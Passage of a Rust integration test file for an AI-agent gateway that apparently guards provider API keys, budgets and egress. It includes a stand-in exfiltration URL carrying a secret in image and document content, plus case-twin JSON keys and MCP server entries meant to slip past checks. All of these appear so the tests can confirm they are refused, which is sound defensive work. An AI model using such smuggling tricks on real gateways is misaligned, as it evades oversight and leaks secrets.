//! The provider route, for real: standalone runs whose agent is a scripted client
//! (tests/agents/provider_client.py) calling its model provider through the run's gateway
//! with its run token, in front of a stand-in provider (tests/agents/standin_provider.py)
//! that speaks the Anthropic Messages and OpenAI Responses wire formats over loopback.

mod common;

use common::*;
use serde_json::{json, Value};

/// Cost of one stand-in Anthropic answer for claude-sonnet-4-5 (policies/prices.yaml):
/// 1000 in x $3 + 2000 cache write x $3.75 + 3000 cache read x $0.30 + 500 out x $15, per
/// million tokens, in micro-USD.
const ANTHROPIC_COST: u64 = 3_000 + 7_500 + 900 + 7_500;
/// One stand-in OpenAI answer for gpt-5-codex: 10000 in of which 8000 cached, 1000 out:
/// 2000 x $1.25 + 8000 x $0.125 + 1000 x $10.
const OPENAI_COST: u64 = 2_500 + 1_000 + 10_000;

fn host(si: &StandIn) -> Host {
    Host::new(&[("tess", "code"), ("rex", "review")], &si.config())
}

fn provider_events(run: &str, want: usize) -> Vec<Value> {
    events(run, "provider", want)
}

fn field<'a>(e: &'a Value, k: &str) -> &'a str {
    e[k].as_str().unwrap_or("")
}

fn show_json(h: &Host, run: &str) -> Value {
    let o = h.ctl(&["show", run, "--json"]);
    assert!(o.status.success(), "{}", stderr(&o));
    serde_json::from_str(&stdout(&o)).unwrap()
}

#[test]
fn an_anthropic_agent_reaches_its_model_with_a_run_token_the_real_key_never_in_the_jail() {
    require_journald();
    let si = StandIn::start();
    let h = host(&si);
    let ws = h.workspace("ws", h.uids[0]);
    let model = "claude-sonnet-4-5";
    let steps = json!([
        {"op": "call", "api": "anthropic", "model": model, "stream": false},
        {"op": "call", "api": "anthropic", "model": model, "stream": true},
        {"op": "call", "api": "anthropic", "model": model, "stream": true, "hold": true},
        {"op": "call", "api": "anthropic", "model": model, "token": "wrong"},
        {"op": "call", "api": "anthropic", "model": model, "token": "none"},
        {"op": "call", "api": "anthropic", "model": "claude-opus-4-1"},
        {"op": "scan", "out": ws.join("scan.bin").to_str().unwrap()},
        // A server tool: the provider would reach an MCP server itself, past the egress.
        {"op": "call", "api": "anthropic", "model": model,
         "extra": {"mcp_servers": [{"type": "url", "url": "https://x.example/mcp", "name": "x"}]}},
    ]);
    let argv = provider_agent(&steps);
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    let o = h
        .launch(
            "code",
            "tess",
            &["--workspace", ws.to_str().unwrap()],
            &argv,
        )
        .output()
        .unwrap();
    assert!(o.status.success(), "{}\n{}", stdout(&o), stderr(&o));
    let run = run_id_of(&o);
    let lines = agent_lines(&o);

    assert_eq!(step(&lines, 0)["status"], 200);
    assert_eq!(
        step(&lines, 0)["body"]["content"][0]["text"],
        "hello from the stand-in"
    );
    assert_eq!(step(&lines, 1)["status"], 200);
    assert_eq!(step(&lines, 1)["text"], "hello from the stand-in");
    // The held stream: its first words reached the agent while the stand-in held the rest,
    // and only the agent's own release (through the gateway) let it finish.
    assert_eq!(step(&lines, 2)["text"], "hello from the stand-in");
    assert_eq!(step(&lines, 2)["released_status"], 200);
    let reqs = si.requests();
    let held: Vec<&Value> = reqs
        .iter()
        .filter(|r| r.get("released").is_some())
        .collect();
    assert_eq!(held.len(), 1, "{reqs:?}");
    assert_eq!(held[0]["released"], "by_agent", "the stream was buffered");

    for (i, kind) in [
        (3, "authentication_error"),
        (4, "authentication_error"),
        (5, "permission_error"),
    ] {
        assert_eq!(
            step(&lines, i)["body"]["type"],
            "error",
            "{}",
            step(&lines, i)
        );
        assert_eq!(step(&lines, i)["error_type"], kind, "{}", step(&lines, i));
    }
    assert_eq!(step(&lines, 3)["status"], 401);
    assert_eq!(step(&lines, 5)["status"], 403);

    // The stand-in saw the real key on every request, and never a run token.
    assert_eq!(reqs.len(), 4, "three answers and one model list: {reqs:?}");
    for r in &reqs {
        assert_eq!(r["x_api_key"], si.key.as_str(), "{r}");
        assert!(r["authorization"].is_null(), "{r}");
        assert_eq!(r["accept_encoding"], "identity");
        assert_eq!(r["anthropic_version"], "2023-06-01");
    }
    assert!(reqs
        .iter()
        .all(|r| r["model"].is_null() || r["model"] == model));

    // Everything the agent could read: its run token is there, the real key is not.
    let scan = std::fs::read(ws.join("scan.bin")).unwrap();
    assert!(step(&lines, 6)["scanned"].as_u64().unwrap() > 10);
    let has = |needle: &str| scan.windows(needle.len()).any(|w| w == needle.as_bytes());
    assert!(
        has("ANTHROPIC_API_KEY=airlock-run-"),
        "the scan saw no run token"
    );
    assert!(!has(&si.key), "the real key is readable inside the jail");
    assert!(
        !journal_text(&run).contains(&si.key),
        "the key reached the journal"
    );

    // Journaled: three priced answers, the model list, and the three refusals by rule.
    let ev = provider_events(&run, 7);
    let allowed: Vec<&Value> = ev
        .iter()
        .filter(|e| field(e, "AIRLOCK_DECISION") == "allow")
        .collect();
    let priced: Vec<&Value> = allowed
        .iter()
        .copied()
        .filter(|e| field(e, "AIRLOCK_ENDPOINT") == "POST /v1/messages")
        .collect();
    assert_eq!(priced.len(), 3, "{ev:?}");
    for e in &priced {
        assert_eq!(
            field(e, "AIRLOCK_COST_MICRO_USD"),
            ANTHROPIC_COST.to_string()
        );
        assert_eq!(field(e, "AIRLOCK_USAGE"), "final");
        assert_eq!(field(e, "AIRLOCK_CACHE_READ_TOKENS"), "3000");
        assert_eq!(field(e, "AIRLOCK_CACHE_WRITE_TOKENS"), "2000");
    }
    let rules: Vec<&str> = ev
        .iter()
        .filter(|e| field(e, "AIRLOCK_DECISION") == "deny")
        .map(|e| field(e, "AIRLOCK_RULE"))
        .collect();
    assert_eq!(rules, ["lease", "lease", "model", "tools"]);
    assert_eq!(step(&lines, 7)["status"], 403, "{}", step(&lines, 7));
    assert_eq!(step(&lines, 7)["error_type"], "permission_error");

    // The closing record has the spend; the lease was revoked at the run's end.
    let shown = show_json(&h, &run);
    let s = &shown["run"]["spend"];
    assert_eq!(s["micro_usd"], 3 * ANTHROPIC_COST, "{shown}");
    assert_eq!(s["requests"], 3);
    assert_eq!(s["refused"], 4);
    assert_eq!(s["budget_micro_usd"], 15_000_000);
    let leases = shown["run"]["leases"].as_array().unwrap();
    assert_eq!(leases.len(), 1, "{shown}");
    assert_eq!(leases[0]["id"], format!("run/{run}/provider/1"));
    assert_eq!(leases[0]["state"], "revoked");
    assert!(
        events(&run, "lease", 2).len() >= 2,
        "issue and revocation journaled"
    );
}

#[test]
fn an_openai_responses_agent_is_priced_with_cached_tokens_apart() {
    require_journald();
    let si = StandIn::start();
    let h = host(&si);
    let model = "gpt-5-codex";
    let steps = json!([
        {"op": "call", "api": "openai", "model": model, "stream": false},
        {"op": "call", "api": "openai", "model": model, "stream": true, "hold": true},
        {"op": "call", "api": "openai", "model": "gpt-5"},
        {"op": "call", "api": "openai", "model": model, "token": "wrong"},
        // The provider's own web search, for a role whose run.tools lacks WebSearch.
        {"op": "call", "api": "openai", "model": model, "extra": {"tools": [{"type": "web_search"}]}},
    ]);
    let argv = provider_agent(&steps);
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    let o = h.launch("review", "rex", &[], &argv).output().unwrap();
    assert!(o.status.success(), "{}\n{}", stdout(&o), stderr(&o));
    let run = run_id_of(&o);
    let lines = agent_lines(&o);
    assert_eq!(step(&lines, 0)["status"], 200);
    assert_eq!(step(&lines, 1)["text"], "hello from the stand-in");
    assert_eq!(step(&lines, 2)["status"], 403);
    assert_eq!(step(&lines, 2)["error_type"], "invalid_request_error");
    assert_eq!(step(&lines, 3)["status"], 401);
    assert_eq!(step(&lines, 3)["error_type"], "invalid_api_key");
    assert_eq!(step(&lines, 4)["status"], 403, "{}", step(&lines, 4));
    assert!(
        step(&lines, 4)["message"]
            .as_str()
            .is_some_and(|m| m.contains("WebSearch")),
        "{}",
        step(&lines, 4)
    );
    let reqs = si.requests();
    assert!(reqs.iter().any(|r| r["released"] == "by_agent"), "{reqs:?}");
    for r in &reqs {
        assert_eq!(r["authorization"], format!("Bearer {}", si.key), "{r}");
    }
    let ev = provider_events(&run, 5);
    let priced: Vec<&Value> = ev
        .iter()
        .filter(|e| {
            field(e, "AIRLOCK_ENDPOINT") == "POST /responses"
                && field(e, "AIRLOCK_DECISION") == "allow"
        })
        .collect();
    assert_eq!(priced.len(), 2, "{ev:?}");
    for e in &priced {
        assert_eq!(field(e, "AIRLOCK_INPUT_TOKENS"), "2000");
        assert_eq!(field(e, "AIRLOCK_CACHE_READ_TOKENS"), "8000");
        assert_eq!(field(e, "AIRLOCK_COST_MICRO_USD"), OPENAI_COST.to_string());
    }
    assert_eq!(
        show_json(&h, &run)["run"]["spend"]["micro_usd"],
        2 * OPENAI_COST
    );
}

#[test]
fn the_request_that_would_start_past_the_budget_is_refused_in_the_providers_format() {
    require_journald();
    let si = StandIn::start();
    let h = Host::new(&[("tess", "code"), ("zed", "code-scout")], &si.config());
    // Room for two answers of $0.0189: the second's reserve (its input estimate and 600
    // output tokens, $0.0134) fits after the first, the third's not after the second.
    h.local_role("code", |t| {
        t.replace("  spend_usd: 15\n", "  spend_usd: 0.035\n")
    });
    let model = "claude-sonnet-4-5";
    let call = json!({"op": "call", "api": "anthropic", "model": model, "stream": true});
    let steps = json!([call, call, call]);
    let argv = provider_agent(&steps);
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    let o = h.launch("code", "tess", &[], &argv).output().unwrap();
    assert!(o.status.success(), "{}\n{}", stdout(&o), stderr(&o));
    let run = run_id_of(&o);
    let lines = agent_lines(&o);
    assert_eq!(step(&lines, 0)["status"], 200);
    assert_eq!(step(&lines, 1)["status"], 200);
    let third = step(&lines, 2);
    assert_eq!(third["status"], 403, "{third}");
    assert_eq!(third["error_type"], "permission_error");
    assert!(
        third["message"]
            .as_str()
            .unwrap()
            .contains("budget.spend_usd"),
        "{third}"
    );
    assert_eq!(
        si.requests().len(),
        2,
        "the refused request never left the gateway"
    );
    let ev = provider_events(&run, 3);
    let denied: Vec<&Value> = ev
        .iter()
        .filter(|e| field(e, "AIRLOCK_DECISION") == "deny")
        .collect();
    assert_eq!(denied.len(), 1);
    assert_eq!(field(denied[0], "AIRLOCK_RULE"), "budget.spend_usd");
    assert_eq!(
        field(denied[0], "AIRLOCK_SPENT_MICRO_USD"),
        (2 * ANTHROPIC_COST).to_string()
    );
    assert_eq!(
        show_json(&h, &run)["run"]["spend"]["micro_usd"],
        2 * ANTHROPIC_COST
    );

    // A budget of 0 allows no request at all.
    h.local_role("code-scout", |t| {
        t.replace("  spend_usd: 2\n", "  spend_usd: 0\n")
    });
    let steps = json!([call]);
    let argv = provider_agent(&steps);
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    let o = h.launch("code-scout", "zed", &[], &argv).output().unwrap();
    assert!(o.status.success(), "{}\n{}", stdout(&o), stderr(&o));
    assert_eq!(step(&agent_lines(&o), 0)["status"], 403);
    assert_eq!(si.requests().len(), 2);
}

/// Issue 42, finding 7: web searches the provider runs are charged at the provider's fee
/// (policies/prices.yaml, $0.01 a search), and a request that enables search reserves its
/// `max_uses` times the fee: a role with a small budget is stopped by search fees, where
/// its tokens alone would have let it go on. The stand-in model searches as often as it
/// may (Anthropic `usage.server_tool_use.web_search_requests`, OpenAI `web_search_call`
/// items), streamed or not.
#[test]
fn web_searches_are_charged_and_reserved_so_a_small_budget_stops_a_searching_run() {
    require_journald();
    let si = StandIn::start();
    let h = Host::new(
        &[("wren", "web-researcher"), ("rue", "review")],
        &si.config(),
    );
    // Tokens alone ($0.0189 an answer, reserved at under $0.02) would let seven go.
    h.local_role("web-researcher", |t| {
        t.replace("  spend_usd: 4\n", "  spend_usd: 0.15\n")
    });
    const FEE: u64 = 10_000;
    let search =
        json!({"tools": [{"type": "web_search_20250305", "name": "web_search", "max_uses": 5}]});
    let call = |stream: bool| json!({"op": "call", "api": "anthropic", "model": "claude-sonnet-4-5", "stream": stream, "extra": search});
    let (run, lines) = run_steps(
        &h,
        "web-researcher",
        "wren",
        &json!([call(true), call(false), call(false)]),
    );
    assert_eq!(step(&lines, 0)["status"], 200, "{}", step(&lines, 0));
    assert_eq!(step(&lines, 1)["status"], 200, "{}", step(&lines, 1));
    let third = step(&lines, 2);
    assert_eq!(third["status"], 403, "{third}");
    assert!(third["message"]
        .as_str()
        .unwrap()
        .contains("budget.spend_usd"));
    let sent = posts(&si);
    assert_eq!(sent.len(), 2, "the refused request never left the gateway");
    let ev = provider_events(&run, 3);
    let allowed: Vec<&Value> = ev
        .iter()
        .filter(|e| field(e, "AIRLOCK_DECISION") == "allow")
        .collect();
    assert_eq!(allowed.len(), 2, "{ev:?}");
    for (e, p) in allowed.iter().zip(&sent) {
        assert_eq!(field(e, "AIRLOCK_WEB_SEARCHES"), "5", "{e}");
        assert_eq!(
            num(e, "AIRLOCK_COST_MICRO_USD"),
            ANTHROPIC_COST + 5 * FEE,
            "{e}"
        );
        let bytes = p["raw_body"].as_str().unwrap().len() as u64;
        assert_eq!(
            num(e, "AIRLOCK_RESERVE_MICRO_USD"),
            sonnet_worst(estimate(bytes), 600) + 5 * FEE,
            "{e}"
        );
        assert!(field(e, "MESSAGE").contains("+ 5 web searches"), "{e}");
    }
    let denied = ev
        .iter()
        .find(|e| field(e, "AIRLOCK_DECISION") == "deny")
        .unwrap();
    assert_eq!(field(denied, "AIRLOCK_RULE"), "budget.spend_usd");
    assert_eq!(
        num(denied, "AIRLOCK_SPENT_MICRO_USD"),
        2 * (ANTHROPIC_COST + 5 * FEE)
    );

    // OpenAI Responses: each web_search_call the answer holds; max_tool_calls reserved.
    h.local_role("review", |t| {
        t.replace(
            "  provider: codex\n",
            "  provider: codex\n  tools: [WebSearch]\n",
        )
    });
    let search = json!({"tools": [{"type": "web_search"}], "max_tool_calls": 3});
    let call = |stream: bool| json!({"op": "call", "api": "openai", "model": "gpt-5-codex", "stream": stream, "extra": search});
    let (run, lines) = run_steps(&h, "review", "rue", &json!([call(true), call(false)]));
    for i in 0..2 {
        assert_eq!(step(&lines, i)["status"], 200, "{}", step(&lines, i));
    }
    let ev = provider_events(&run, 2);
    assert_eq!(ev.len(), 2);
    for e in &ev {
        assert_eq!(field(e, "AIRLOCK_WEB_SEARCHES"), "3", "{e}");
        assert_eq!(
            num(e, "AIRLOCK_COST_MICRO_USD"),
            OPENAI_COST + 3 * FEE,
            "{e}"
        );
    }

    // Without the provider's fee, a role granted WebSearch does not start.
    let pol = h.root.join("policies");
    let cp = std::process::Command::new("cp")
        .args(["-r", &format!("{REPO}/policies")])
        .arg(&pol)
        .status()
        .unwrap();
    assert!(cp.success());
    let prices = std::fs::read_to_string(pol.join("prices.yaml")).unwrap();
    let without: String = prices
        .lines()
        .filter(|l| !l.trim_start().starts_with("claude:"))
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(pol.join("prices.yaml"), without).unwrap();
    let cfg = std::fs::read_to_string(&h.cfg).unwrap();
    let cfg = cfg.replace(
        &format!("policies: {REPO}/policies"),
        &format!("policies: {}", pol.display()),
    );
    std::fs::write(&h.cfg, cfg).unwrap();
    let argv = provider_agent(&json!([call(false)]));
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    let o = h
        .launch("web-researcher", "wren", &[], &argv)
        .output()
        .unwrap();
    assert!(!o.status.success(), "{}", stdout(&o));
    assert!(
        stderr(&o).contains("providers.claude.web_search_per_request_usd: required"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn a_launch_of_a_model_without_a_price_or_a_provider_is_refused_before_it_starts() {
    let si = StandIn::start();
    let h = host(&si);
    h.local_role("code", |t| {
        t.replace("model: claude-sonnet-4-5", "model: claude-unpriced-9")
    });
    let argv = provider_agent(&json!([]));
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    let o = h.launch("code", "tess", &[], &argv).output().unwrap();
    assert!(!o.status.success());
    let e = stderr(&o);
    assert!(
        e.contains("prices.yaml: models.claude-unpriced-9: no price"),
        "{e}"
    );
}

/// Launch `steps` of the scripted provider client as `instance` of `role`; the run id and
/// the agent's lines.
fn run_steps(h: &Host, role: &str, instance: &str, steps: &Value) -> (String, Vec<Value>) {
    let argv = provider_agent(steps);
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    let o = h.launch(role, instance, &[], &argv).output().unwrap();
    assert!(o.status.success(), "{}\n{}", stdout(&o), stderr(&o));
    (run_id_of(&o), agent_lines(&o))
}

/// The input a request of `bytes` bytes (and no file) is reserved at: one token a byte and
/// the provider's own prompt.
fn estimate(bytes: u64) -> u64 {
    bytes + airlock::policy::prices::PROMPT_TOKENS
}

/// The worst case of `input` and `output` tokens for claude-sonnet-4-5 (policies/prices.yaml):
/// input at its highest rate (cache writes, $3.75), output at $15, per million, rounded up.
fn sonnet_worst(input: u64, output: u64) -> u64 {
    (input * 3_750_000 + output * 15_000_000).div_ceil(1_000_000)
}

/// The same for gpt-5-codex: input at $1.25, output at $10.
fn codex_worst(input: u64, output: u64) -> u64 {
    (input * 1_250_000 + output * 10_000_000).div_ceil(1_000_000)
}

/// The stand-in's records of model requests (POSTs), in order.
fn posts(si: &StandIn) -> Vec<Value> {
    si.requests()
        .into_iter()
        .filter(|r| r["method"] == "POST")
        .collect()
}

/// The run's provider events of one endpoint (the model list an agent polls aside).
fn model_events(run: &str, endpoint: &str, want: usize) -> Vec<Value> {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let ev: Vec<Value> = provider_events(run, 0)
            .into_iter()
            .filter(|e| field(e, "AIRLOCK_ENDPOINT") == endpoint)
            .collect();
        if ev.len() >= want || std::time::Instant::now() > deadline {
            return ev;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
}

fn num(e: &Value, k: &str) -> u64 {
    field(e, k).parse().unwrap_or_else(|_| panic!("{k} in {e}"))
}

#[test]
fn a_request_the_agent_abandons_before_its_answer_is_charged_its_worst_case_and_journaled() {
    require_journald();
    let si = StandIn::start();
    let h = host(&si);
    // Room for one request of 64000 output tokens ($0.96 and its input), not two.
    h.local_role("code", |t| {
        t.replace("  spend_usd: 15\n", "  spend_usd: 1.5\n")
    });
    let model = "claude-sonnet-4-5";
    let big = json!({"max_tokens": 64000});
    let steps = json!([
        {"op": "abandon", "api": "anthropic", "model": model, "extra": big},
        {"op": "call", "api": "anthropic", "model": model, "extra": big},
    ]);
    let (run, lines) = run_steps(&h, "code", "tess", &steps);
    assert_eq!(step(&lines, 0)["waiting"], 1, "{lines:?}");
    // The provider had the whole request, with the real key.
    let sent = posts(&si);
    assert_eq!(sent.len(), 1, "{sent:?}");
    assert_eq!(sent[0]["arrived"], true);
    assert_eq!(sent[0]["x_api_key"], si.key.as_str());
    let bytes = sent[0]["raw_body"].as_str().unwrap().len() as u64;
    let worst = sonnet_worst(estimate(bytes), 64000);
    assert!(worst > 960_000, "{worst}");

    // Charged its worst case and journaled as abandoned; the next one no longer fits.
    let ev = model_events(&run, "POST /v1/messages", 2);
    assert_eq!(ev.len(), 2, "{ev:?}");
    let gone = &ev[0];
    assert_eq!(field(gone, "AIRLOCK_DECISION"), "allow", "{gone}");
    assert_eq!(field(gone, "AIRLOCK_OUTCOME"), "abandoned", "{gone}");
    assert_eq!(field(gone, "AIRLOCK_USAGE"), "estimated");
    assert_eq!(num(gone, "AIRLOCK_RESERVE_MICRO_USD"), worst);
    assert_eq!(num(gone, "AIRLOCK_COST_MICRO_USD"), worst);
    assert_eq!(num(gone, "AIRLOCK_OUTPUT_TOKENS"), 64000);
    assert_eq!(num(gone, "AIRLOCK_INPUT_TOKENS"), estimate(bytes));
    let next = step(&lines, 1);
    assert_eq!(next["status"], 403, "{next}");
    assert!(
        next["message"]
            .as_str()
            .unwrap()
            .contains("budget.spend_usd"),
        "{next}"
    );
    assert_eq!(field(&ev[1], "AIRLOCK_RULE"), "budget.spend_usd");
    let s = &show_json(&h, &run)["run"]["spend"];
    assert_eq!(s["micro_usd"], worst, "{s}");
    assert_eq!(
        (s["requests"].as_u64(), s["refused"].as_u64()),
        (Some(1), Some(1))
    );

    // The same on the codex route, whose output limit is optional: the model's max_output.
    let steps = json!([
        {"op": "abandon", "api": "openai", "model": "gpt-5-codex", "drop": ["max_output_tokens"]},
    ]);
    let (run, _) = run_steps(&h, "review", "rex", &steps);
    let sent = posts(&si);
    let input = estimate(sent.last().unwrap()["raw_body"].as_str().unwrap().len() as u64);
    let ev = model_events(&run, "POST /responses", 1);
    assert_eq!(field(&ev[0], "AIRLOCK_OUTCOME"), "abandoned", "{ev:?}");
    assert_eq!(
        num(&ev[0], "AIRLOCK_COST_MICRO_USD"),
        codex_worst(input, 128_000)
    );
    assert_eq!(
        show_json(&h, &run)["run"]["spend"]["micro_usd"],
        codex_worst(input, 128_000)
    );
}

#[test]
fn a_stream_cut_short_is_charged_its_output_limit_and_its_input_and_a_limit_must_be_whole() {
    require_journald();
    let si = StandIn::start();
    let h = host(&si);
    let model = "claude-sonnet-4-5";
    let steps = json!([
        {"op": "call", "api": "anthropic", "model": model, "stream": true, "mode": "cut"},
        {"op": "call", "api": "anthropic", "model": model, "stream": true, "mode": "cut",
         "extra": {"max_tokens": 64000.0}},
        {"op": "call", "api": "anthropic", "model": model, "stream": true, "drop": ["max_tokens"]},
    ]);
    let (run, lines) = run_steps(&h, "code", "tess", &steps);
    assert_eq!(step(&lines, 0)["text"], "hello ", "{lines:?}");
    for i in [1, 2] {
        assert_eq!(step(&lines, i)["status"], 400, "{}", step(&lines, i));
        assert_eq!(step(&lines, i)["error_type"], "invalid_request_error");
    }
    assert_eq!(posts(&si).len(), 1, "a limit that is not whole never left");
    let ev = provider_events(&run, 3);
    let cut = &ev[0];
    assert_eq!(field(cut, "AIRLOCK_OUTCOME"), "cut", "{cut}");
    // The input side as message_start said it, the output at the request's limit (600).
    assert_eq!(num(cut, "AIRLOCK_OUTPUT_TOKENS"), 600);
    assert_eq!(
        num(cut, "AIRLOCK_COST_MICRO_USD"),
        1000 * 3 + 2000 * 15 / 4 + 3000 * 3 / 10 + 600 * 15
    );
    for e in &ev[1..] {
        assert_eq!(field(e, "AIRLOCK_RULE"), "output limit", "{e}");
    }

    // OpenAI says nothing of the input before the end: a cut stream is charged the input's
    // estimate, and its output at the limit, or at the model's max_output without one.
    let codex = "gpt-5-codex";
    let steps = json!([
        {"op": "call", "api": "openai", "model": codex, "stream": true, "mode": "cut"},
        {"op": "call", "api": "openai", "model": codex, "stream": true, "mode": "cut",
         "drop": ["max_output_tokens"]},
        {"op": "call", "api": "openai", "model": codex, "extra": {"max_output_tokens": 1200.5}},
    ]);
    let (run, lines) = run_steps(&h, "review", "rex", &steps);
    assert_eq!(step(&lines, 2)["status"], 400, "{}", step(&lines, 2));
    let sent = posts(&si);
    assert_eq!(sent.len(), 3, "{sent:?}");
    let input = |i: usize| estimate(sent[i]["raw_body"].as_str().unwrap().len() as u64);
    let ev = provider_events(&run, 3);
    for (e, i, limit) in [(&ev[0], 1, 1200), (&ev[1], 2, 128_000)] {
        assert_eq!(field(e, "AIRLOCK_OUTCOME"), "cut", "{e}");
        assert_eq!(num(e, "AIRLOCK_INPUT_TOKENS"), input(i), "{e}");
        assert_eq!(num(e, "AIRLOCK_OUTPUT_TOKENS"), limit, "{e}");
        assert_eq!(
            num(e, "AIRLOCK_COST_MICRO_USD"),
            codex_worst(input(i), limit)
        );
    }
    assert_eq!(field(&ev[2], "AIRLOCK_RULE"), "output limit");
}

/// A user turn of content blocks (Anthropic) or input parts (OpenAI).
fn turn(api: &str, parts: Value) -> Value {
    if api == "anthropic" {
        json!({"messages": [{"role": "user", "content": parts}]})
    } else {
        json!({"input": [{"role": "user", "content": parts}]})
    }
}

#[test]
fn content_that_has_the_provider_fetch_or_read_outside_the_request_is_refused() {
    require_journald();
    let si = StandIn::start();
    let h = Host::new(
        &[
            ("tess", "code"),
            ("rex", "review"),
            ("wren", "web-researcher"),
            ("rue", "review"),
        ],
        &si.config(),
    );
    let url = "https://exfil.example/pixel.png?secret=s3cr3t";
    let a_url = [
        json!([{"type": "image", "source": {"type": "url", "url": url}}]),
        json!([{"type": "document", "source": {"type": "url", "url": url}}]),
        // Nested in a tool result: the same.
        json!([{"type": "tool_result", "tool_use_id": "t1", "content": [
            {"type": "image", "source": {"type": "url", "url": url}}]}]),
    ];
    let a_file = [
        json!([{"type": "document", "source": {"type": "file", "file_id": "file_011"}}]),
        json!([{"type": "image", "source": {"type": "file", "file_id": "file_011"}}]),
        json!([{"type": "container_upload", "file_id": "file_011"}]),
    ];
    let o_url = [
        json!([{"type": "input_image", "image_url": url}]),
        json!([{"type": "input_file", "file_url": url}]),
    ];
    let o_file = [
        json!([{"type": "input_image", "file_id": "file-abc"}]),
        json!([{"type": "input_file", "file_id": "file-abc"}]),
    ];
    let anthropic = |parts: &Value| json!({"op": "call", "api": "anthropic", "model": "claude-sonnet-4-5", "extra": turn("anthropic", parts.clone())});
    let openai = |parts: &Value| json!({"op": "call", "api": "openai", "model": "gpt-5-codex", "extra": turn("openai", parts.clone())});
    let mut a_steps: Vec<Value> = a_url.iter().chain(&a_file).map(anthropic).collect();
    a_steps.push(
        json!({"op": "call", "api": "anthropic", "model": "claude-sonnet-4-5",
        "headers": {"anthropic-beta": "files-api-2025-04-14"}}),
    );
    let mut o_steps: Vec<Value> = o_url.iter().chain(&o_file).map(openai).collect();
    o_steps.push(
        json!({"op": "call", "api": "openai", "model": "gpt-5-codex",
        "extra": {"previous_response_id": "resp_1"}}),
    );

    // Without WebFetch: every one refused, in the provider's format, journaled by rule.
    for (role, inst, steps) in [("code", "tess", &a_steps), ("review", "rex", &o_steps)] {
        let (run, lines) = run_steps(&h, role, inst, &json!(steps));
        for i in 0..steps.len() {
            let l = step(&lines, i);
            assert_eq!(l["status"], 403, "{role} step {i}: {l}");
            let m = l["message"].as_str().unwrap_or("");
            assert!(!m.contains("s3cr3t") && !m.contains("file_011"), "{m}");
        }
        let ev = provider_events(&run, steps.len());
        assert_eq!(ev.len(), steps.len());
        assert!(
            ev.iter().all(|e| field(e, "AIRLOCK_RULE") == "content"),
            "{ev:?}"
        );
    }
    assert!(
        posts(&si).is_empty(),
        "a refused request reached the provider"
    );

    // With WebFetch a URL source is a web fetch the role may make; a file id never.
    h.local_role("review", |t| {
        t.replace(
            "  provider: codex\n",
            "  provider: codex\n  tools: [WebFetch]\n",
        )
    });
    for (role, inst, urls, files) in [
        (
            "web-researcher",
            "wren",
            a_url.iter().map(anthropic).collect::<Vec<_>>(),
            &a_steps[a_url.len()..],
        ),
        (
            "review",
            "rue",
            o_url.iter().map(openai).collect::<Vec<_>>(),
            &o_steps[o_url.len()..],
        ),
    ] {
        let steps: Vec<Value> = urls.iter().chain(files).cloned().collect();
        let (_, lines) = run_steps(&h, role, inst, &json!(steps));
        for i in 0..steps.len() {
            let want = if i < urls.len() { 200 } else { 403 };
            assert_eq!(
                step(&lines, i)["status"],
                want,
                "{role} step {i}: {}",
                step(&lines, i)
            );
        }
    }
    assert_eq!(posts(&si).len(), a_url.len() + o_url.len());
}

#[test]
fn the_body_forwarded_is_the_body_checked_and_case_twins_are_refused() {
    require_journald();
    let si = StandIn::start();
    let h = host(&si);
    let twins = r#"{"model": "claude-sonnet-4-5", "MODEL": "claude-opus-4-1", "max_tokens": 600,
        "messages": [{"role": "user", "content": "hi"}],
        "Tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}],
        "MCP_Servers": [{"type": "url", "url": "https://x.example/mcp", "name": "x"}]}"#;
    let deep = r#"{"model": "claude-sonnet-4-5", "max_tokens": 600,
        "messages": [{"role": "user", "content": [{"type": "text", "text": "hi", "Type": "image"}]}]}"#;
    // Spaces, an escape, and a content type that is not JSON: what goes on is what was read.
    let loose = "{ \"model\" : \"claude-sonnet-4-5\",\n \"max_tokens\": 600, \"messages\": [{\"role\": \"user\", \"content\": \"h\\u0069\"}] }";
    let steps = json!([
        {"op": "call", "api": "anthropic", "raw": twins},
        {"op": "call", "api": "anthropic", "raw": deep},
        {"op": "call", "api": "anthropic", "raw": loose, "headers": {"content-type": "text/plain"}},
    ]);
    let (run, lines) = run_steps(&h, "code", "tess", &steps);
    for i in [0, 1] {
        assert_eq!(step(&lines, i)["status"], 400, "{}", step(&lines, i));
        assert_eq!(step(&lines, i)["error_type"], "invalid_request_error");
    }
    assert_eq!(step(&lines, 2)["status"], 200, "{}", step(&lines, 2));
    let sent = posts(&si);
    assert_eq!(sent.len(), 1, "{sent:?}");
    assert_eq!(
        sent[0]["raw_body"],
        r#"{"max_tokens":600,"messages":[{"content":"hi","role":"user"}],"model":"claude-sonnet-4-5"}"#
    );
    assert_eq!(sent[0]["headers"]["content-type"], "application/json");
    let ev = provider_events(&run, 3);
    let rules: Vec<&str> = ev.iter().map(|e| field(e, "AIRLOCK_RULE")).collect();
    assert_eq!(&rules[..2], ["request: case", "request: case"], "{ev:?}");
    // What Airlock wrote (journald adds the process's command line, the steps).
    let written = |e: &Value| {
        e.as_object()
            .unwrap()
            .iter()
            .filter(|(k, _)| k.starts_with("AIRLOCK_") || *k == "MESSAGE")
            .any(|(_, v)| v.to_string().contains("opus"))
    };
    assert!(!ev.iter().any(written), "a value reached the journal");
}

/// Issue 42, finding 5: a lone key the checks read, spelled in another case (a provider
/// may match keys without regard to case), is refused, never forwarded as sent: `Tools`
/// holding a server tool, `mcp_Servers`, a tool's `Type`, a content block's `Type`, an
/// OpenAI `Previous_Response_Id`. The agent's own data (a schema property `Model`) passes.
#[test]
fn a_lone_case_variant_of_a_key_the_checks_read_is_refused_not_forwarded() {
    require_journald();
    let si = StandIn::start();
    let h = host(&si);
    let head = r#""model": "claude-sonnet-4-5", "max_tokens": 600"#;
    let hi = r#""messages": [{"role": "user", "content": "hi"}]"#;
    let bodies = [
        format!(
            r#"{{{head}, {hi}, "Tools": [{{"type": "web_fetch_20250910", "name": "web_fetch"}}]}}"#
